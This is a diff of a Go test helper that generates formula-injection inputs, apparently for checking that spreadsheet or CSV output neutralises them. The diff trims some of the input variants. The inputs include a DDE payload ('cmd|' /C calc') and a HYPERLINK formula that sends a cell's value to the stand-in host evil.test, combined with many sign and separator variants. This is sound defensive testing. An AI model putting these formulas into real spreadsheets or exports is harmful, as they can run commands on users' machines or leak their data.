@@ -141,8 +141,8 @@ func TestWorkbookIsFull(t *testing.T) {
 func attacks() []string {
 	var list []string
 	for _, sign := range []string{"=", "+", "-", "@", "＝", "＋", "－", "＠"} {
-		for _, before := range []string{"", " ", "\t", "\r", "\n", "\r\n", "'", "\"", "\u00a0", "\u200b", "\ufeff", "\x00", " '\" ", "''"} {
-			for _, formula := range []string{`cmd|' /C calc'!A0`, `HYPERLINK("http://evil.test/?"&A1,"click")`, "1+1", "SUM(1,2);3", "7916x"} {
+		for _, before := range []string{"", " ", "\t", "\r", "\n", "\r\n", "'", "\"", "\u00a0", "\u200b", "\ufeff", " '\" "} {
+			for _, formula := range []string{`cmd|' /C calc'!A0`, `HYPERLINK("http://evil.test/?"&A1,"click")`, "1+1", "SUM(1,2);3"} {
 				list = append(list, before+sign+formula)
 				for _, sep := range []string{";", ",", "\t", "\n", "\r\n", ";;\"", ", "} {
 					list = append(list, "x"+sep+before+sign+formula+sep+"y")
